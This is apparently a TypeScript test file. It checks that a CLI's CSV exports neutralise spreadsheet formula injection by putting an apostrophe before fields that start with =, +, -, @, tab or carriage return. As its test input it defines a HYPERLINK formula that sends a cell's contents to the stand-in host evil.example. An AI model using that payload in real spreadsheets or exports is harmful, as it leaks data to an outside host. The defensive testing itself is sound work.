// Formula injection through every CSV the built CLI writes: `users export --csv`, `invitations
// export` and `sends show --csv`, against the sandbox gateway. A name (or a provider's error text)
// that starts with = + - @, a tab or a carriage return comes out prefixed with an apostrophe, so a
// spreadsheet shows it as text instead of running it.
import { insertInvitations, insertUsers } from '@blockcatch/gateway/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cli, cliEnv, loginAsAdmin } from './cli-harness.js';
import { createAdmin, type Sandbox, startSandbox } from './sdk-harness.js';
import { eventually } from './support/eventually.js';

const ATTACK = 'HYPERLINK("http://evil.example/?d="&A1,"Open")';
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const phoneOf = (i: number) => `+1786555${String(2000 + i).padStart(4, '0')}`;
/** The CSV field the attack must become: apostrophe first, quoted for its quotes and comma. */
const neutralised = (trigger: string) => `"'${`${trigger}${ATTACK}`.replaceAll('"', '""')}"`;

let sandbox: Sandbox;
/** What each command wrote, run once for all the tests. */
const out = { users: '', invitations: '', sends: '' };

beforeAll(async () => {
  sandbox = await startSandbox({ sendRate: 0 });
  await createAdmin(sandbox.gateway);
  for (const product of ['flex', 'spark'] as const) {
    await insertUsers(
      sandbox.gateway.db,
      TRIGGERS.map((trigger, i) => ({
        product,
        phone_number: phoneOf(i),
        name: `${trigger}${ATTACK}`,
      })),
    );
  }
  await insertInvitations(
    sandbox.gateway.db,
    TRIGGERS.map((_, i) => ({
      phoneNumber: phoneOf(i),
      dateInvitedTimestamp: Date.now(),
      freeWeek: false,
      referralCode: null,
    })),
  );
  const env = cliEnv(sandbox.url);
  await loginAsAdmin(env);
  const run = async (args: string[]) => {
    const done = await cli(env, args);
    expect(done.code, done.stderr).toBe(0);
    return done.stdout;
  };
  out.users = await run(['users', 'export', '--product', 'spark', '--csv']);
  out.invitations = await run(['invitations', 'export']);

  await run(['send', 'sms', '--audience', 'spark', '--message', 'Report', '--yes', '--json']);
  const [job] = await sandbox.gateway.db.query<{ id: string }>(
    "SELECT id FROM send_jobs WHERE body = 'Report'",
  );
  await eventually(async () => {
    const [left] = await sandbox.gateway.db.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM send_recipients
       WHERE job_id = $1 AND status IN ('queued', 'sending')`,
      [job!.id],
    );
    expect(left!.n).toBe(0);
  });
  // A provider's error text is words the service did not write.
  for (const [i, trigger] of TRIGGERS.entries()) {
    await sandbox.gateway.db.query(
      `UPDATE send_recipients SET error_code = NULL, last_error = $2
       WHERE job_id = $1 AND to_number = $3`,
      [job!.id, `${trigger}${ATTACK}`, phoneOf(i)],
    );
  }
  out.sends = await run(['sends', 'show', job!.id, '--csv']);
}, 120_000);

afterAll(async () => {
  await sandbox?.close();
});

describe.each(TRIGGERS.map((trigger, i) => [trigger, i] as const))(
  'a field starting with %j',
  (trigger, i) => {
    it('is text in `users export --csv`', () => {
      expect(out.users).toContain(`\n${neutralised(trigger)},${phoneOf(i)},`);
    });

    it('is text in `invitations export`', () => {
      expect(out.invitations).toContain(`\n${neutralised(trigger)},${phoneOf(i)},`);
    });

    it('is text in `sends show --csv`', () => {
      const line = out.sends.split('\n').find((l) => l.startsWith(`${phoneOf(i)},`));
      expect(line).toContain(`,${neutralised(trigger)},`);
    });
  },
);
